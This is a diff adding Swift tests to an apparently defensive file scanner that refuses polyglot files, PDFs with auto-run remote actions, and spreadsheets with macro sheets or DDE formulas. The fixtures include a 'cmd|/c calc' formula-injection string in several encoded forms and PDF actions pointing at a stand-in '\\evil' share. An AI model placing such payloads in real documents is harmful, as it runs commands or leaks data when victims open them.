@@ -60,6 +60,7 @@ import Testing
         refuses([UInt8](repeating: 0x41, count: 900) + Specimen.pdf(), "a.pdf", .polyglot(.pdf))
         refuses(Specimen.png() + Specimen.bytes("Rar!\u{1A}\u{7}\0"), "a.png", .polyglot(.archive))
         refuses(Specimen.jpeg() + Specimen.program + Specimen.bytes("This program cannot be run in DOS mode"), "a.jpg", .polyglot(.program))
+        refuses(Specimen.png() + Specimen.program, "a.png", .polyglot(.program))
         refuses(ZipWriter.archive([.init("%PDF-1.7", "a")]), "a.zip", .polyglot(.pdf))
         #expect(findings(Specimen.bytes("\r\n") + Specimen.pdf(), "a.pdf") == [])
     }
@@ -87,6 +88,14 @@ import Testing
         refuses(Specimen.pdf(Specimen.stream(6, "/Filter /AHx /N 2 /First 8", hex, packs: false)), "a.pdf", .damaged(.unreadable))
         refuses(Specimen.pdf(catalog: "/Encrypt 9 0 R"), "a.pdf", .encryptedPDF)
         refuses(Array(Specimen.pdf().dropLast(8)), "a.pdf", .truncated)
+        refuses(Specimen.pdf(catalog: "/Annots [<</Subtype /FileAttachment>>]"), "a.pdf", .activePDF("FileAttachment"))
+        refuses(Specimen.pdf(catalog: "/F (a.exe) /EF <</F 5 0 R>>"), "a.pdf", .activePDF("EF"))
+        for name in ["GoToR", "SubmitForm"] {
+            for opening in ["OpenAction", "AA"] {
+                refuses(Specimen.pdf(catalog: "/\(opening) <</S /\(name) /F (\\\\evil\\a)>>"), "a.pdf", .activePDF(name))
+            }
+            #expect(findings(Specimen.pdf(catalog: "/A <</S /\(name) /F (a.pdf)>>"), "a.pdf") == [], "waits for a press")
+        }
         #expect(findings(Specimen.pdf(catalog: "/OpenAction [3 0 R /Fit] /JSON 1 /Launchpad 2"), "a.pdf") == [])
         #expect(findings(Specimen.pdf(Specimen.stream(6, "/Type /ObjStm /N 1 /First 4", Specimen.bytes("7 0 <</A 1>>"))), "a.pdf") == [])
     }
@@ -114,6 +123,23 @@ import Testing
         refuses(loads(Specimen.relationship("officeDocument", "/xl/a.bin", mode: "Internal")), "a.docx", .damaged(.structure))
         refuses(Specimen.docx([.init("word/footer1.xml", "<w:instrText>DDEAUTO c:\\\\cmd</w:instrText>")]), "a.docx", .dynamicExchange)
         refuses(Specimen.docx([.init("word/embeddings/oleObject1.bin", Specimen.compound("\u{1}Ole10Native"))]), "a.docx", .packagedObject)
+        let macroSheet = "<Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"application/vnd.ms-excel.macrosheet+xml\"/>"
+        refuses(
+            ZipWriter.archive([.init("[Content_Types].xml", macroSheet), .init("xl/workbook.xml", "<a/>")]), "a.xlsx", .macro)
+        refuses(
+            Specimen.xlsx([.init("xl/_rels/workbook.xml.rels", Specimen.relationship("xlIntlMacrosheet", "worksheets/sheet1.xml", mode: "Internal"))]
+            ),
+            "a.xlsx", .macro)
+        refuses(loads(Specimen.relationship("aFChunk", "chunk.html", mode: "Internal")), "a.docx", .packagedObject)
+        func sheet(_ formula: String) -> [UInt8] { Specimen.xlsx([.init("xl/worksheets/sheet2.xml", "<a><c>\(formula)</c></a>")]) }
+        let call = "cmd|'/c calc'!A0"
+        for formula in [
+            "<f>\(call)</f>", "<x:f t=\"shared\">\(call)</x:f>", "<f>1>2+\(call)</f>", "<f>cmd&#x7C;'/c calc'!A0</f>", "<f><![CDATA[\(call)]]></f>",
+            "<f>A1</f><f>\"a|b\"&amp;\(call)</f>",
+        ] { refuses(sheet(formula), "a.xlsx", .dynamicExchange) }
+        for formula in ["<f>\"a|b\"&amp;Sheet2!A1</f>", "<f>'a|b'!A1</f>", "<t>\(call)</t>", "<f>&quot;|&quot;&amp;Sheet2!A1</f>"] {
+            #expect(findings(sheet(formula), "a.xlsx") == [], "\(formula)")
+        }
         refuses(Specimen.docx([.init("word/media/image1.png", Specimen.program)]), "a.docx", .executable(.windows))
         refuses(Specimen.compound("_VBA_PROJECT"), "a.doc", .macro)
         #expect(findings(Specimen.compound("EncryptedPackage"), "a.xlsx") == [.encryptedOffice, .unknownKind])
